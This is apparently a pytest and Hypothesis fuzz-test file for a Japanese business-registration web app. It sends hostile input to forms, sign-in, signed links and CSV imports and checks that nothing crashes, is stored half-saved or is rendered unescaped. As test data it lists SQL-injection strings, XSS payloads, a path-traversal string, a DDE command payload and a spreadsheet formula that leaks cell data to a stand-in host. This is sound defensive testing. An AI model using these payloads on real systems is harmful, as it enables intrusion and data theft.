"""Issue 8: hostile and random input to every public form and import.

Hypothesis posts random and hostile values (very long strings, control characters, mixed-width
Japanese, SQL and HTML fragments, huge files, wrong encodings) to the forms and the two file
imports. Whatever arrives: never a 500, never stored script (a raw ``<script>`` rendered back),
never a half-saved record, and a clear message (in Japanese) each time.

Each Hypothesis example runs in a savepoint that is rolled back, so examples do not see each
other's registrations, answers or login failures. What these tests found (500s from values
the forms let through, NUL characters in imports, English messages) was fixed; the tests at
the end keep each of those cases."""

import io
import re
import uuid

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils.html import escape
from hypothesis import assume, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from core.file_messages import ROW_COLUMN_ERROR
from core.roles import Role
from counselling.models import Case
from counselling.tests.factories import CaseFactory
from outcomes.models import SurveyResponse
from outcomes.services import survey_token_make
from outcomes.tests.factories import SurveyFactory
from registrations.models import Business, Contact, Registration
from registrations.tests.factories import form_data
from support_menus.models import SupportMenu
from support_menus.resources import COLUMNS as CATALOGUE_COLUMNS
from support_menus.tests.helpers import ROW, csv_bytes
from tests.hostile import (
    FAST,
    FEW,
    JAPANESE,
    SURVEY_DATA,
    SURVEY_HEADER,
    TAG,
    admin_catalogue_import,
    admin_import_messages,
    admin_survey_import,
    assert_explained,
    field_messages,
    html,
    rolled_back,
    run_catalogue_command,
    run_survey_command,
    send,
    short,
    survey_csv,
    survey_row,
)

pytestmark = pytest.mark.django_db

# --- Strategies --------------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
RAW_PAYLOADS = (SCRIPT, "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>")

HOSTILE_SAMPLES = (
    "'; DROP TABLE registrations_business; --",
    "1 OR 1=1",
    "' OR '1'='1",
    SCRIPT,
    IMG,
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"クリック")',
    "=1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7|add:7 }}{% debug %}",
    "%(name)s %s {0}",
    "x" * 10_000,
    "ア" * 10_000,
    "\x00",
    "a\x00b",
    "\u202e\u200f\u200d\u200b\ufeff",
    "\r\n\r\n",
    " ",
    "",
    "../../../../etc/passwd",
    "9" * 40,
    "-1",
    "1e308",
    "NaN",
    "０１２３４５６７８９",
    "㍿㌀﷽",
    "🇯🇵👨‍👩‍👧‍👦🍣",
)

# Full-width and half-width katakana, hiragana, kanji, full-width digits and letters, emoji,
# zero-width joiners, RTL marks, combining sound marks, 〒 and dashes.
JAPANESE_MIX = (
    "アイウエオカキクケコガギグゲゴパピプペポヴー"
    "ｱｲｳｴｵｶｷｸｹｺｶﾞｷﾞﾊﾟﾋﾟｰｯ"
    "あいうえおがぎぐげごぱぴぷぺぽっゃゅょゝゞ"
    "漢字山田製作所株式会社東京都千代田区霞関輸出日本酒㈱㍿㌀"
    "０１２３４５６７８９ＡＢＣａｂｃ－〒・、。「」"
    "😀🍣🇯🇵👍🏽"
    "\u200d\u200c\u200b\u200e\u200f\u202a\u202e\u2066\u2069\ufeff\u3099\u309a"
    "-‐‑‒–—―−ｰ－﹣ "
)

control_text = st.text(
    alphabet=st.characters(
        categories=("Cc", "Cf", "Lu", "Ll", "Lo", "Nd", "No", "Po", "Ps", "Pe", "Sm", "So", "Zs")
    ),
    max_size=300,
)
japanese_text = st.text(alphabet=JAPANESE_MIX, max_size=300)
hostile = st.one_of(st.sampled_from(HOSTILE_SAMPLES), control_text, japanese_text)
# A token in a URL path segment cannot contain "/" (the str converter).
garbage_token = st.one_of(
    st.sampled_from(["not-a-token", "eyJyIjoxfQ:1abc:tampered", "a" * 5000, "%00", "..", "\u202e"]),
    st.text(
        alphabet=st.characters(exclude_characters="/?#%", exclude_categories=("Cs",)),
        min_size=1,
        max_size=200,
    ).filter(lambda s: s.strip(".") != ""),
)


# --- Helpers -----------------------------------------------------------------------------------

ALERT = re.compile(r'class="alert[^"]*"[^>]*>(.*?)</div>', re.S)
CSRF = re.compile(r'name="csrfmiddlewaretoken" value="[^"]*"')


def no_raw_script(page: str, where: str) -> None:
    for payload in RAW_PAYLOADS:
        assert payload not in page, f"unescaped {payload!r} rendered on {where}"


def assert_any_message(page: str, where: str) -> None:
    """A field error or an alert (non-field errors), in Japanese."""
    messages = field_messages(page) + [TAG.sub("", m).strip() for m in ALERT.findall(page)]
    messages = [m for m in messages if m]
    assert messages, f"no message shown on {where}"
    assert any(JAPANESE.search(m) for m in messages), f"message not in Japanese on {where}"


@pytest.fixture(autouse=True)
def _no_rate_limit(settings):
    settings.REGISTRATION_RATE_LIMIT = "100000/h"


@pytest.fixture
def staff_client(client, users):
    from django.test import Client

    staff = Client()
    staff.force_login(users[Role.CONCIERGE])
    return staff


# --- The public registration form ----------------------------------------------------------------

REG_FIELDS = [name for name in form_data() if name != "submission_token"] + [
    "corporate_number", "website", "contact_department", "destinations_undecided", "ec_success",
    "referral_organisation_name", "submission_token",
]  # fmt: skip
FREE_TEXT_FIELDS = ("name", "representative", "address", "contact_name", "contact_department",
                    "products", "referral_organisation_name")  # fmt: skip


def check_registration_response(response, before: int, where: str, staff_client) -> None:
    page = html(response)
    no_raw_script(page, where)
    assert response.status_code in (200, 302), f"{where}: status {response.status_code}"
    if response.status_code == 200:
        if " submission_token=" in where:  # a hidden field: the message stands above the form
            assert_any_message(page, where)
        else:
            assert_explained(page, where)
        assert Registration.objects.count() == before, f"{where}: re-shown but a record was saved"
        return
    assert Registration.objects.count() == before + 1, f"{where}: accepted but not saved"
    registration = Registration.objects.latest("pk")
    assert registration.business_id
    assert registration.contact_id
    if registration.status == Registration.Status.AWAITING_CONSENT:
        return  # staff see a referral once the firm confirms; the partner's list is checked
    detail = send(
        staff_client, "get", reverse("registrations:registration-detail", args=[registration.pk])
    )
    assert detail.status_code == 200
    page = html(detail)
    no_raw_script(page, f"the registration detail page after {where}")
    assert escape(registration.business.name) in page, f"{where}: the stored name is not shown"
    listing = send(staff_client, "get", reverse("registrations:registration-list"))
    no_raw_script(html(listing), "the registration list")


@FAST
@given(field=st.sampled_from(REG_FIELDS), value=hostile)
def test_register_with_one_hostile_field(client, staff_client, field, value):
    url = reverse("registrations:register")
    with rolled_back():
        before = Registration.objects.count()
        response = send(client, "post", url, form_data(**{field: value}))
        check_registration_response(response, before, f"POST {url} {field}={short(value)}",
                                    staff_client)  # fmt: skip


@FAST
@given(value=st.one_of(st.sampled_from(HOSTILE_SAMPLES), control_text, japanese_text))
def test_register_with_hostile_text_in_every_free_text_field(client, staff_client, value):
    url = reverse("registrations:register")
    data = form_data(**dict.fromkeys(FREE_TEXT_FIELDS, value), referral_source="chamber")
    with rolled_back():
        before = Registration.objects.count()
        response = send(client, "post", url, data)
        check_registration_response(response, before, f"POST {url} all text={short(value)}",
                                    staff_client)  # fmt: skip
        if response.status_code == 302:  # what was typed is what was stored, whole
            registration = Registration.objects.latest("pk")
            assert registration.products == value.strip()
            assert registration.business.address == value.strip()


@FEW
@given(
    data=st.dictionaries(
        keys=st.one_of(st.sampled_from(REG_FIELDS), st.text(max_size=20)),
        values=st.one_of(hostile, st.lists(hostile, max_size=3)),
        max_size=30,
    )
)
def test_register_with_a_random_dict(client, staff_client, data):
    data.pop("fax_number", None)  # the honeypot has its own test
    url = reverse("registrations:register")
    with rolled_back():
        before = Registration.objects.count()
        response = send(client, "post", url, data)
        check_registration_response(response, before, f"POST {url} {short(data)}", staff_client)


@FEW
@given(value=hostile.filter(lambda v: v.strip() != ""))
def test_register_with_the_honeypot_filled_is_refused_with_a_message(client, value):
    url = reverse("registrations:register")
    with rolled_back():
        response = send(client, "post", url, form_data(fax_number=value))
        assert response.status_code == 400
        page = html(response)
        no_raw_script(page, url)
        assert_any_message(page, f"POST {url} fax_number={short(value)}")
        assert not Registration.objects.exists()


# --- The partner's referral form -----------------------------------------------------------------

PUBLIC_ONLY = (
    "consent_privacy",
    "consent_sharing",
    "referral_source",
    "referral_organisation_name",
)
REFERRAL_FIELDS = [f for f in REG_FIELDS if f not in PUBLIC_ONLY]


@FAST
@given(field=st.sampled_from(REFERRAL_FIELDS), value=hostile)
def test_referral_with_one_hostile_field(client, users, staff_client, field, value):
    client.force_login(users[Role.PARTNER])
    url = reverse("registrations:referral-create")
    with rolled_back():
        before = Registration.objects.count()
        response = send(client, "post", url, form_data(**{field: value}))
        check_registration_response(response, before, f"POST {url} {field}={short(value)}",
                                    staff_client)  # fmt: skip
        if response.status_code == 302:
            no_raw_script(html(send(client, "get", response["Location"])), "the referral list")


# --- The firm's own pages: contact update and withdrawal ----------------------------------------

CONTACT_DATA = {"name": "山田 花子", "name_kana": "ヤマダ ハナコ", "department": "海外事業部",
                "email": "hanako@example.jp", "phone": "03-1234-5678"}  # fmt: skip


@FAST
@given(field=st.sampled_from(list(CONTACT_DATA)), value=hostile)
def test_contact_update_with_one_hostile_field(client, users, staff_client, field, value):
    business_user = users[Role.BUSINESS]
    client.force_login(business_user)
    url = reverse("registrations:contact-update")
    contact = Contact.objects.get(user=business_user)
    with rolled_back():
        stored = {name: getattr(contact, name) for name in CONTACT_DATA}
        response = send(client, "post", url, {**CONTACT_DATA, field: value})
        where = f"POST {url} {field}={short(value)}"
        page = html(response)
        no_raw_script(page, where)
        assert response.status_code in (200, 302), where
        contact.refresh_from_db()
        if response.status_code == 200:
            assert_explained(page, where)
            assert {name: getattr(contact, name) for name in CONTACT_DATA} == stored, where
        else:
            expected = value if field == "name" else CONTACT_DATA["name"]
            assert contact.name == expected.strip(), where
            no_raw_script(html(send(client, "get", response["Location"])), "the firm's home")
            registration = Registration.objects.get(contact=contact)
            detail = send(
                staff_client,
                "get",
                reverse("registrations:registration-detail", args=[registration.pk]),
            )
            no_raw_script(html(detail), "the registration detail page")  # fmt: skip


@FAST
@given(value=hostile)
def test_withdraw_with_a_hostile_reason(client, users, staff_client, value):
    business_user = users[Role.BUSINESS]
    client.force_login(business_user)
    registration = Registration.objects.get(contact__user=business_user)
    url = reverse("registrations:withdraw", args=[registration.pk])
    with rolled_back():
        response = send(client, "post", url, {"reason": value})
        where = f"POST {url} reason={short(value)}"
        page = html(response)
        no_raw_script(page, where)
        assert response.status_code in (200, 302), where
        registration.refresh_from_db()
        if response.status_code == 200:
            assert_explained(page, where)
            assert registration.status != Registration.Status.WITHDRAWN, where
        else:
            assert registration.status == Registration.Status.WITHDRAWN, where
            assert registration.withdrawal_reason == value.strip(), where
            detail = send(
                staff_client,
                "get",
                reverse("registrations:registration-detail", args=[registration.pk]),
            )
            no_raw_script(html(detail), "the registration detail page")  # fmt: skip


# --- Signed links: consent and survey ------------------------------------------------------------


def _path(name: str, token: str, suffix: str = "") -> str:
    from urllib.parse import quote

    prefix = reverse(name, args=["TOKEN"]).split("TOKEN")[0]
    return prefix + quote(token, safe="") + "/" + suffix


@FAST
@given(token=garbage_token, method=st.sampled_from(["get", "post"]))
def test_consent_link_with_a_garbage_token_is_the_friendly_page(client, token, method):
    url = _path("registrations:consent", token)
    with rolled_back():
        response = send(client, method, url, {"consent_privacy": "on", "consent_sharing": "on"})
        assert response.status_code == 404, url
        assert 'data-testid="link-invalid"' in html(response), f"not the friendly page: {url}"


@pytest.fixture
def survey(users):
    case = CaseFactory(status=Case.Status.SUPPORT, stage="challenge",
                       concierge=users[Role.CONCIERGE])  # fmt: skip
    return SurveyFactory(case=case)


@FAST
@given(token=garbage_token, method=st.sampled_from(["get", "post"]),
       suffix=st.sampled_from(["", "done/", "opt-out/"]))  # fmt: skip
def test_survey_link_with_a_garbage_token_is_the_friendly_page(client, survey, token, method,
                                                               suffix):  # fmt: skip
    if suffix == "opt-out/":
        method = "post"
    url = _path("outcomes:answer", token, suffix)
    with rolled_back():
        response = send(client, method, url, {"export_realised": "no"})
        assert response.status_code == 404, url
        page = html(response)
        assert 'data-testid="link-invalid"' in page, f"not the friendly page: {url}"
        assert survey.case.registration.business.name not in page
        assert not SurveyResponse.objects.exists()


SURVEY_FIELDS = [*SURVEY_DATA, "menus_used"]


def check_survey_response(response, where: str, after_get) -> None:
    page = html(response)
    no_raw_script(page, where)
    assert response.status_code in (302, 400), f"{where}: status {response.status_code}"
    if response.status_code == 400:
        assert_explained(page, where)
        assert not SurveyResponse.objects.exists(), f"{where}: refused but saved"
        return
    assert SurveyResponse.objects.count() == 1, f"{where}: accepted but not saved"
    no_raw_script(html(after_get()), f"the page after {where}")


@FAST
@given(field=st.sampled_from(SURVEY_FIELDS), value=hostile)
def test_survey_answer_with_one_hostile_field(client, survey, field, value):
    url = reverse("outcomes:answer", args=[survey_token_make(survey)])
    with rolled_back():
        response = send(client, "post", url, {**SURVEY_DATA, field: value})
        check_survey_response(response, f"POST {url} {field}={short(value)}",
                              lambda: send(client, "get", url))  # fmt: skip


@FAST
@given(field=st.sampled_from([*SURVEY_FIELDS, "source"]), value=hostile)
def test_staff_survey_answer_with_one_hostile_field(staff_client, survey, field, value):
    url = reverse("outcomes:staff-answer", args=[survey.case.pk, survey.pk])
    case_url = reverse("counselling:case-detail", args=[survey.case.pk])
    with rolled_back():
        response = send(staff_client, "post", url, {**SURVEY_DATA, "source": "phone", field: value})
        check_survey_response(response, f"POST {url} {field}={short(value)}",
                              lambda: send(staff_client, "get", case_url))  # fmt: skip


# --- Sign-in and password reset ------------------------------------------------------------------


@FAST
@given(username=hostile, password=hostile)
def test_login_with_hostile_credentials(client, users, username, password):
    url = reverse("login")
    with rolled_back():
        response = send(client, "post", url, {"username": username, "password": password})
        where = f"POST {url} username={short(username)} password={short(password)}"
        assert response.status_code in (200, 429), where  # 429: django-axes locked the pair out
        page = html(response)
        no_raw_script(page, where)
        if response.status_code == 200:
            assert_any_message(page, where)
            assert "_auth_user_id" not in client.session


@FAST
@given(email=hostile)
def test_password_reset_with_hostile_input(client, users, email):
    url = reverse("password_reset")
    with rolled_back():
        response = send(client, "post", url, {"email": email})
        where = f"POST {url} email={short(email)}"
        no_raw_script(html(response), where)
        assert response.status_code in (200, 302), where
        if response.status_code == 200:
            assert_explained(html(response), where)
        else:
            assert response["Location"] == reverse("password_reset_done")


@hsettings(FAST, max_examples=5)
@given(local=st.from_regex(r"[a-z][a-z0-9]{0,20}", fullmatch=True))
def test_password_reset_does_not_reveal_whether_an_account_exists(client, users, local):
    url = reverse("password_reset")
    existing = users[Role.CONCIERGE].email
    unknown = f"{local}@nobody.example.jp"
    assume(unknown.lower() != existing.lower())
    with rolled_back():
        answers = []
        for email in (existing, unknown):
            response = send(client, "post", url, {"email": email}, follow=True)
            page = CSRF.sub("", html(response).replace(email, "EMAIL"))
            answers.append((response.status_code, response.redirect_chain, page))
        assert answers[0] == answers[1], "the reset pages differ for a known and an unknown e-mail"


# --- The survey results import: command and admin page ------------------------------------------


@pytest.fixture
def import_case(users):
    return CaseFactory(status=Case.Status.SUPPORT, concierge=users[Role.CONCIERGE])


@pytest.fixture
def admin_client(users):
    from django.test import Client

    admin = Client()
    admin.force_login(users[Role.ADMIN])
    return admin


def counts() -> tuple[int, ...]:
    from outcomes.models import Survey

    return (SurveyResponse.objects.count(), Survey.objects.count(), Case.objects.count(),
            Business.objects.count(), SupportMenu.objects.count())  # fmt: skip


def check_refused_survey_file(imported: bool, message: str, before, where: str) -> None:
    assert not imported, f"{where}: a hostile file was imported"
    assert JAPANESE.search(message), f"{where}: message not in Japanese: {message[:200]!r}"
    assert counts() == before, f"{where}: something was half-imported"


HOSTILE_FILES = {
    "empty": b"",
    "only_a_bom": b"\xef\xbb\xbf",
    "random_bytes": bytes(range(256)) * 40,
    "nul_bytes": b"\x00" * 4096,
    "utf16_header": ",".join(SURVEY_HEADER).encode("utf-16"),
    "wrong_header": "会社名,回答\r\n山田,はい\r\n".encode(),
    "header_only": ",".join(SURVEY_HEADER).encode(),
    "very_long_line": b"a" * 300_000 + b"\r\n",
    "broken_quotes": b'"' + b"x" * 1000 + b"\r\n" + b'"a""b,c' * 100,
    "formula_and_script_header": f'=HYPERLINK("x"),{SCRIPT}\r\n1,2\r\n'.encode(),
}


@pytest.mark.parametrize("kind", HOSTILE_FILES)
def test_survey_import_command_refuses_a_hostile_file_with_a_message(tmp_path, import_case,
                                                                     kind):  # fmt: skip
    before = counts()
    imported, message = run_survey_command(tmp_path, HOSTILE_FILES[kind])
    check_refused_survey_file(imported, message, before, f"import_survey_results <{kind}>")


@pytest.mark.parametrize("kind", HOSTILE_FILES)
def test_survey_admin_import_refuses_a_hostile_file_with_a_message(admin_client, import_case,
                                                                   kind):  # fmt: skip
    before = counts()
    for really in (False, True):
        response = admin_survey_import(admin_client, HOSTILE_FILES[kind], really=really)
        page = html(response)
        assert response.status_code == 200
        assert "Traceback" not in page
        no_raw_script(page, f"the survey import page <{kind}>")
        errors = re.findall(r'<ul class="errorlist[^"]*"[^>]*>(.*?)</ul>', page, re.S)
        assert errors, f"no message for <{kind}>"
        assert JAPANESE.search(" ".join(errors)), f"message not in Japanese for <{kind}>"
        assert counts() == before, f"<{kind}> half-imported"


def test_survey_import_of_a_huge_file_is_refused_quickly(tmp_path, admin_client, import_case):
    """About 5.7 MB of rows for a registration that does not exist: every row is named, nothing
    is saved, and the page still renders."""
    rows = [survey_row("EX-0000-NONE", products="x" * 280) for _ in range(18_000)]
    data = survey_csv(rows)
    assert len(data) > 5_500_000
    before = counts()
    imported, message = run_survey_command(tmp_path, data)
    check_refused_survey_file(imported, message, before, "import_survey_results <huge>")
    response = admin_survey_import(admin_client, data)
    assert "Traceback" not in html(response)
    assert counts() == before


def test_survey_import_in_shift_jis_with_script_and_formulas_stores_text_and_escapes_it(
    tmp_path, staff_client, import_case
):
    """A valid file: the hostile text is data, stored as written, shown escaped."""
    text = f'{SCRIPT} =HYPERLINK("http://evil.example","x") 日本酒'
    data = survey_csv([survey_row(import_case.registration.reference, products=text)],
                      encoding="cp932")  # fmt: skip
    imported, message = run_survey_command(tmp_path, data)
    assert imported, message
    assert SurveyResponse.objects.get().products == text
    page = html(
        send(staff_client, "get", reverse("counselling:case-detail", args=[import_case.pk]))
    )
    no_raw_script(page, "the case page after the import")


def known_survey_import_finding(cells: dict) -> bool:
    return any("\x00" in value for value in cells.values())


@FAST
@given(cells=st.dictionaries(st.sampled_from(SURVEY_HEADER), hostile, max_size=6))
def test_survey_import_with_hostile_cells_never_escapes(tmp_path, import_case, cells):
    assume(not known_survey_import_finding(cells))
    row = survey_row(import_case.registration.reference, **cells)
    with rolled_back():
        before = counts()
        imported, message = run_survey_command(tmp_path, survey_csv([row]), "--dry-run")
        assert counts() == before, "a dry run wrote something"
        if not imported:
            assert JAPANESE.search(message), f"message not in Japanese: {message[:200]!r}"


@FAST
@given(data=st.binary(max_size=3000))
def test_survey_import_with_random_bytes_never_escapes(tmp_path, import_case, data):
    with rolled_back():
        before = counts()
        imported, message = run_survey_command(tmp_path, data)
        check_refused_survey_file(imported, message, before, "import_survey_results <random>")


# --- The support-menu catalogue import: command and admin page -----------------------------------


CATALOGUE_FILES = {
    "empty": b"",
    "only_a_bom": b"\xef\xbb\xbf",
    "random_bytes": bytes(range(256)) * 40,
    "nul_bytes": b"\x00" * 4096,
    "utf16": csv_bytes([ROW], encoding="utf-16"),
    "wrong_header": "名前,説明\r\nA,B\r\n".encode(),
    "header_only": ",".join(CATALOGUE_COLUMNS).encode(),
    "very_long_line": b"a" * 300_000 + b"\r\n",
    "broken_quotes": b'"' + b"x" * 1000 + b"\r\n" + b'"a""b,c' * 100,
    "formula_and_script_header": f'=HYPERLINK("x"),{SCRIPT}\r\n1,2\r\n'.encode(),
}


@pytest.mark.parametrize("kind", CATALOGUE_FILES)
def test_catalogue_command_refuses_a_hostile_file_with_a_message(tmp_path, db, kind):
    before = counts()
    imported, message = run_catalogue_command(tmp_path, CATALOGUE_FILES[kind])
    assert not imported, f"<{kind}> was accepted"
    assert JAPANESE.search(message), f"<{kind}>: message not in Japanese: {message[:200]!r}"
    assert counts() == before


@pytest.mark.parametrize("kind", CATALOGUE_FILES)
def test_catalogue_admin_import_refuses_a_hostile_file_with_a_message(admin_client, kind):
    before = counts()
    response = admin_catalogue_import(admin_client, CATALOGUE_FILES[kind])
    page = html(response)
    assert response.status_code == 200
    assert "Traceback (most recent" not in page, f"<{kind}>: a traceback is shown"
    no_raw_script(page, f"the catalogue import page <{kind}>")
    assert "confirm_form" not in (response.context or {}) or not response.context["confirm_form"]
    assert_any_message_admin(page, kind)
    assert counts() == before


def assert_any_message_admin(page: str, kind: str) -> None:
    messages = admin_import_messages(page)
    assert messages, f"<{kind}>: no message on the admin import page"
    for message in messages:
        assert JAPANESE.search(message), f"<{kind}>: message not in Japanese: {message!r}"


def test_catalogue_import_of_a_huge_file_is_refused(tmp_path, admin_client):
    """About 6 MB: a header this catalogue does not have, then many long rows."""
    data = ("会社名,説明\r\n" + ("x" * 100 + "," + "y" * 100 + "\r\n") * 30_000).encode()
    assert len(data) > 6_000_000
    before = counts()
    imported, message = run_catalogue_command(tmp_path, data)
    assert not imported
    assert JAPANESE.search(message)
    response = admin_catalogue_import(admin_client, data)
    assert "Traceback" not in html(response)
    assert counts() == before


def test_catalogue_row_with_script_and_formulas_is_previewed_escaped(tmp_path, admin_client):
    row = {**ROW, "name": SCRIPT, "summary": '=HYPERLINK("http://evil.example","x")',
           "fee_note": IMG}  # fmt: skip
    imported, message = run_catalogue_command(tmp_path, csv_bytes([row]))
    assert imported, message
    response = admin_catalogue_import(admin_client, csv_bytes([row]))
    no_raw_script(html(response), "the catalogue import preview")
    assert not SupportMenu.objects.exists()


def known_catalogue_finding(cells: dict) -> bool:
    return any("\x00" in value for value in cells.values())


@FAST
@given(cells=st.dictionaries(st.sampled_from(CATALOGUE_COLUMNS), hostile, max_size=6))
def test_catalogue_import_with_hostile_cells_never_escapes(tmp_path, cells):
    assume(not known_catalogue_finding(cells))
    with rolled_back():
        before = counts()
        imported, message = run_catalogue_command(tmp_path, csv_bytes([{**ROW,
                                                                            **cells}]))  # fmt: skip
        assert counts() == before, "a dry run wrote something"
        if not imported:
            assert JAPANESE.search(message), f"message not in Japanese: {message[:300]!r}"


@FAST
@given(data=st.binary(max_size=3000))
def test_catalogue_import_with_random_bytes_never_escapes(tmp_path, data):
    with rolled_back():
        before = counts()
        imported, message = run_catalogue_command(tmp_path, data)
        assert counts() == before
        if not imported:
            assert JAPANESE.search(message), f"message not in Japanese: {message[:300]!r}"


# --- What these tests found (each fixed; kept as regression tests) ------------------------------

LONG_EMAIL = "a" * 64 + "@" + ("b" * 63 + ".") * 3 + "jp"  # 259 chars, a valid address
MODEL_REFUSES = {
    "website_over_200_chars": {"website": "https://example.jp/" + "a" * 250},
    "capital_over_bigint": {"capital_yen": "9" * 25},
    "name_kana_lengthened_by_nfkc": {"name_kana": "㌀" * 200},  # ㌀ → アパート
    "contact_name_kana_lengthened_by_nfkc": {"contact_name_kana": "㌀" * 100},
    "email_over_254_chars": {"email": LONG_EMAIL, "email_confirm": LONG_EMAIL},
}


@pytest.mark.parametrize("url_name", ["registrations:register", "registrations:referral-create"])
def test_a_name_that_nfkc_lengthens_is_kept_as_typed(client, users, url_name):
    """Its matching key (not the name) is what grows past 200 characters: the key is cut."""
    if url_name == "registrations:referral-create":
        client.force_login(users[Role.PARTNER])
    response = send(client, "post", reverse(url_name), form_data(name="㌀" * 200))
    assert response.status_code == 302
    assert Business.objects.filter(name="㌀" * 200).count() == 1


@pytest.mark.parametrize("case", MODEL_REFUSES)
@pytest.mark.parametrize("url_name", ["registrations:register", "registrations:referral-create"])
def test_finding_1_form_accepts_what_the_model_refuses(client, users, url_name, case):
    if url_name == "registrations:referral-create":
        client.force_login(users[Role.PARTNER])
    url = reverse(url_name)
    before = Registration.objects.count()
    response = send(client, "post", url, form_data(**MODEL_REFUSES[case]))
    assert response.status_code == 200
    assert_explained(html(response), f"POST {url} {case}")
    assert Registration.objects.count() == before


@pytest.mark.parametrize("url_name", ["registrations:register", "registrations:referral-create"])
def test_finding_2_bad_submission_token_has_no_field_message(client, users, url_name):
    if url_name == "registrations:referral-create":
        client.force_login(users[Role.PARTNER])
    url = reverse(url_name)
    response = send(client, "post", url, form_data(submission_token="not-a-uuid"))
    assert response.status_code == 200
    page = html(response)
    # The field is hidden, so the message stands above the form; the form gets a new token.
    assert_any_message(page, f"POST {url} submission_token='not-a-uuid'")
    token = re.search(r'name="submission_token" value="([^"]+)"', page)[1]
    assert uuid.UUID(token)


def test_finding_3_login_with_a_256_character_username(client, users):
    url = reverse("login")
    response = send(client, "post", url, {"username": "x" * 256, "password": "x"})
    assert response.status_code == 200
    assert_any_message(html(response), url)


NUL_SURVEY_CELLS = {"registration_ref": "EX\x00", "products": "日本\x00酒"}


@pytest.mark.parametrize("column", NUL_SURVEY_CELLS)
def test_finding_4_survey_import_command_with_a_nul_cell(tmp_path, import_case, column):
    row = survey_row(import_case.registration.reference, **{column: NUL_SURVEY_CELLS[column]})
    before = counts()
    imported, message = run_survey_command(tmp_path, survey_csv([row]))
    check_refused_survey_file(imported, message, before, f"import_survey_results NUL {column}")


@pytest.mark.parametrize("column", NUL_SURVEY_CELLS)
def test_finding_4_survey_admin_import_with_a_nul_cell(admin_client, import_case, column):
    row = survey_row(import_case.registration.reference, **{column: NUL_SURVEY_CELLS[column]})
    before = counts()
    response = admin_survey_import(admin_client, survey_csv([row]), really=True)
    assert response.status_code == 200
    assert counts() == before


@pytest.mark.parametrize("column", ["name", "code", "summary"])
def test_finding_5_catalogue_nul_cell_message(tmp_path, admin_client, column):
    data = csv_bytes([{**ROW, column: "a\x00b"}])
    imported, message = run_catalogue_command(tmp_path, data)
    assert not imported
    lines = [line for line in message.splitlines()[1:] if line.strip()]  # the row lines
    assert lines
    assert all(JAPANESE.search(line) and "PostgreSQL" not in line for line in lines), message
    response = admin_catalogue_import(admin_client, data)
    assert "PostgreSQL" not in html(response)
    assert_any_message_admin(html(response), f"NUL in {column}")


def test_finding_7_catalogue_command_summary_is_english(tmp_path):
    data = csv_bytes([{**ROW, "category": SCRIPT}])
    path = tmp_path / "menus.csv"
    path.write_bytes(data)
    with pytest.raises(CommandError) as failure:
        call_command("catalogue", "import", str(path), "--dry-run", stdout=io.StringIO(),
                     stderr=io.StringIO())  # fmt: skip
    assert JAPANESE.search(str(failure.value)), str(failure.value)


# --- Issue 13: control and format characters, and encodings ---------------------------------------
# A value with a refused character between two letters (so stripping cannot remove it) is
# always refused, with the message beside its field, on every public form and in both imports;
# a body in another encoding is a 400, never a 500 and never mojibake in the database.

REFUSED_CHARACTERS = st.one_of(
    st.characters(categories=("Cc", "Cf", "Zl", "Zp")).filter(lambda ch: ch != "\x00"),
    st.sampled_from(["\u202e", "\u202a", "\u2066", "\u2069", "\u200b", "\u200d", "\ufeff",
                     "\x1b", "\v", "\n", "\r", "\u2028", "\x85"]),
)  # fmt: skip
letters = st.text(alphabet="山田製作所アイウabc123", min_size=1, max_size=20)


@st.composite
def dirty_text(draw, *, multiline: bool = False) -> str:
    """Text with at least one character the field must refuse, inside the text."""
    refused = REFUSED_CHARACTERS
    if multiline:
        refused = refused.filter(lambda ch: ch not in "\n\r\t")
    return draw(letters) + draw(refused) + draw(letters)


SINGLE_LINE_REG_FIELDS = ("name", "representative", "address", "contact_name",
                          "contact_department", "referral_organisation_name")  # fmt: skip
FIELD_MESSAGE = ("改行・制御文字", "制御文字や見えない書式文字")


def assert_refused_beside(page: str, where: str) -> None:
    messages = field_messages(page)
    assert any(m.startswith(FIELD_MESSAGE) for m in messages), f"{where}: {messages}"


@FAST
@given(field=st.sampled_from(SINGLE_LINE_REG_FIELDS), value=dirty_text())
def test_register_refuses_control_and_format_characters_beside_the_field(client, field, value):
    url = reverse("registrations:register")
    with rolled_back():
        before = Registration.objects.count()
        response = send(client, "post", url,
                        form_data(**{field: value, "referral_source": "chamber"}))  # fmt: skip
        where = f"POST {url} {field}={value!r}"
        assert response.status_code == 200, where
        assert_refused_beside(html(response), where)
        assert Registration.objects.count() == before, where


@FAST
@given(value=dirty_text(multiline=True))
def test_register_products_keep_line_breaks_but_refuse_other_characters(client, value):
    url = reverse("registrations:register")
    with rolled_back():
        response = send(client, "post", url, form_data(products=value))
        assert response.status_code == 200, repr(value)
        assert_refused_beside(html(response), f"products={value!r}")
        assert not Registration.objects.filter(products=value).exists()


@FAST
@given(field=st.sampled_from(["name", "representative", "contact_name"]), value=dirty_text())
def test_referral_refuses_control_and_format_characters(client, users, field, value):
    client.force_login(users[Role.PARTNER])
    url = reverse("registrations:referral-create")
    with rolled_back():
        before = Registration.objects.count()
        response = send(client, "post", url, form_data(**{field: value}))
        assert response.status_code == 200, repr(value)
        assert_refused_beside(html(response), f"{field}={value!r}")
        assert Registration.objects.count() == before


@FAST
@given(field=st.sampled_from(["name", "department"]), value=dirty_text())
def test_contact_update_refuses_control_and_format_characters(client, users, field, value):
    client.force_login(users[Role.BUSINESS])
    url = reverse("registrations:contact-update")
    contact = Contact.objects.get(user=users[Role.BUSINESS])
    with rolled_back():
        response = send(client, "post", url, {**CONTACT_DATA, field: value})
        assert response.status_code == 200, repr(value)
        assert_refused_beside(html(response), f"{field}={value!r}")
        contact.refresh_from_db()
        assert getattr(contact, field) != value


@FAST
@given(value=dirty_text())
def test_survey_answer_refuses_control_and_format_characters(client, survey, value):
    url = reverse("outcomes:answer", args=[survey_token_make(survey)])
    with rolled_back():
        response = send(client, "post", url, {**SURVEY_DATA, "products": value})
        assert response.status_code == 400, repr(value)
        assert_refused_beside(html(response), f"products={value!r}")
        assert not SurveyResponse.objects.exists()


ENCODINGS = ("cp932", "euc_jp", "iso2022_jp", "utf-16")


@FAST
@given(name=st.text(alphabet=JAPANESE_MIX[:120], min_size=1, max_size=30),
